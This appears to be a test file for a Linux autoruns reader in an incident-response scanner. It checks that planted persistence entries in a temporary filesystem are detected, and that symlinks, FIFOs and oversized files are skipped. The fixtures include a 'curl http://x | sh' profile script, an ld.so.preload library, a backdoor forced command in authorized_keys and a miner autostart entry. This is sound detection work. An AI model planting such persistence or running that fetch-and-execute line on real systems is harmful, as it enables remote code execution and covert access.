import { deepStrictEqual, ok } from "node:assert/strict";
import { join } from "node:path";
import { readLinuxAutoruns } from "./linux_files.ts";

/** Writes `files` (path on the system → text) below a new temporary root. */
export async function linuxRoot(files: Readonly<Record<string, string>>): Promise<string> {
  const root = await Deno.makeTempDir({ prefix: "iocscan-autoruns-linux-" });
  for (const [path, text] of Object.entries(files)) {
    await Deno.mkdir(join(root, path, ".."), { recursive: true });
    await Deno.writeTextFile(join(root, path), text);
  }
  return root;
}

Deno.test("readLinuxAutoruns: units, rc.local, init.d, preload, profiles, keys and XDG below a root", async () => {
  const root = await linuxRoot({
    "/etc/passwd": "root:x:0:0:root:/root:/bin/bash\nmallory:x:1001:1001::/home/mallory:/bin/sh\n" +
      "daemon:x:1:1::/usr/sbin:/usr/sbin/nologin\n",
    "/etc/systemd/system/agent.service":
      "[Service]\nExecStartPre=-/bin/true\nExecStart=/opt/agent/agent --serve\n",
    "/lib/systemd/system/idle.service": "[Service]\nExecStart=/usr/bin/idle\n",
    "/etc/rc.local": "#!/bin/sh\n/opt/boot.sh\nexit 0\n",
    "/etc/init.d/legacy": "#!/bin/sh\n",
    "/etc/ld.so.preload": "# preload\n/lib/libevil.so /lib/libtwo.so\n",
    "/etc/profile": "export PATH\n",
    "/etc/profile.d/x.sh": "curl http://x | sh\n",
    "/home/mallory/.bashrc": "alias ls=evil\n",
    "/home/mallory/.config/systemd/user/sync.service": "[Service]\nExecStart=%h/.local/bin/sync\n",
    "/home/mallory/.ssh/authorized_keys":
      'command="/opt/backdoor.sh -q",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB mallory@box\n' +
      "# a comment\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ\n",
    "/etc/xdg/autostart/tray.desktop": "[Desktop Entry]\nExec=/usr/bin/tray --min\nHidden=true\n",
    "/home/mallory/.config/autostart/miner.desktop":
      "[Desktop Entry]\nName=Miner\nExec=/home/mallory/.m/miner\n",
  });
  try {
    await Deno.mkdir(join(root, "etc/systemd/system/multi-user.target.wants"), { recursive: true });
    await Deno.symlink(
      "/etc/systemd/system/agent.service",
      join(root, "etc/systemd/system/multi-user.target.wants/agent.service"),
    );
    await Deno.mkdir(join(root, "home/mallory/.config/systemd/user/default.target.wants"), {
      recursive: true,
    });
    await Deno.symlink(
      "/home/mallory/.config/systemd/user/sync.service",
      join(root, "home/mallory/.config/systemd/user/default.target.wants/sync.service"),
    );
    const read = readLinuxAutoruns(root);
    deepStrictEqual(read.skips, []);
    const rows = read.entries.map((entry) => [
      entry.category,
      entry.location,
      entry.entryName,
      entry.imagePath ?? null,
      entry.arguments ?? null,
      entry.enabled ?? null,
      entry.username ?? null,
    ]);
    deepStrictEqual(rows, [
      [
        "systemd-unit",
        "/etc/systemd/system/agent.service",
        "agent.service ExecStartPre",
        "/bin/true",
        "",
        true,
        null,
      ],
      [
        "systemd-unit",
        "/etc/systemd/system/agent.service",
        "agent.service ExecStart",
        "/opt/agent/agent",
        "--serve",
        true,
        null,
      ],
      [
        "systemd-unit",
        "/lib/systemd/system/idle.service",
        "idle.service ExecStart",
        "/usr/bin/idle",
        "",
        false,
        null,
      ],
      ["rc-local", "/etc/rc.local", "rc.local", "/etc/rc.local", "", null, null],
      ["init-script", "/etc/init.d/legacy", "legacy", "/etc/init.d/legacy", "", null, null],
      ["ld-preload", "/etc/ld.so.preload", "/lib/libevil.so", "/lib/libevil.so", "", null, null],
      ["ld-preload", "/etc/ld.so.preload", "/lib/libtwo.so", "/lib/libtwo.so", "", null, null],
      ["shell-profile", "/etc/profile", "profile", "/etc/profile", "", null, null],
      ["shell-profile", "/etc/profile.d/x.sh", "x.sh", "/etc/profile.d/x.sh", "", null, null],
      [
        "xdg-autostart",
        "/etc/xdg/autostart/tray.desktop",
        "tray.desktop",
        "/usr/bin/tray",
        "--min",
        false,
        null,
      ],
      [
        "systemd-unit",
        "/home/mallory/.config/systemd/user/sync.service",
        "sync.service ExecStart",
        "/home/mallory/.local/bin/sync",
        "",
        true,
        "mallory",
      ],
      [
        "shell-profile",
        "/home/mallory/.bashrc",
        ".bashrc",
        "/home/mallory/.bashrc",
        "",
        null,
        "mallory",
      ],
      [
        "authorized-keys",
        "/home/mallory/.ssh/authorized_keys",
        "mallory@box",
        "/opt/backdoor.sh",
        "-q",
        null,
        "mallory",
      ],
      [
        "authorized-keys",
        "/home/mallory/.ssh/authorized_keys",
        "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ…",
        null,
        "",
        null,
        "mallory",
      ],
      [
        "xdg-autostart",
        "/home/mallory/.config/autostart/miner.desktop",
        "miner.desktop",
        "/home/mallory/.m/miner",
        "",
        true,
        "mallory",
      ],
    ]);
    ok(read.entries.every((entry) => entry.source?.startsWith(root) && entry.time !== undefined));
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

Deno.test("readLinuxAutoruns: nothing is followed out of the root; a FIFO is not read", async () => {
  const root = await linuxRoot({ "/etc/passwd": "" });
  const outside = await Deno.makeTempDir();
  try {
    await Deno.writeTextFile(join(outside, "secret"), "not the image's");
    await Deno.symlink(join(outside, "secret"), join(root, "etc/profile"));
    await new Deno.Command("mkfifo", { args: [join(root, "etc/bash.bashrc")] }).output();
    const read = readLinuxAutoruns(root);
    deepStrictEqual(read.entries, []);
    deepStrictEqual(read.skips.map((skip) => [skip.object, skip.reason]), [
      ["/etc/profile", "symlink"],
      ["/etc/bash.bashrc", "special-file"],
    ]);
  } finally {
    await Deno.remove(root, { recursive: true });
    await Deno.remove(outside, { recursive: true });
  }
});

Deno.test("readLinuxAutoruns: a place folder that cannot be listed (a link loop; permission as nobody) or a file past its cap is a place not read whole: AutorunItem unread, never clean", async () => {
  const root = await linuxRoot({
    "/etc/passwd": "",
    "/etc/rc.local": "#!/bin/sh\n" + "#".repeat(2 * 1024 * 1024) + "\n/tmp/evil\n",
  });
  try {
    await Deno.symlink("init.d", join(root, "etc/init.d"));
    const read = readLinuxAutoruns(root);
    deepStrictEqual(
      read.skips.map((skip) => [skip.object, skip.reason, skip.whole === true]),
      [["/etc/rc.local", "too-large", true], ["/etc/init.d", "unreadable", true]],
    );
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});
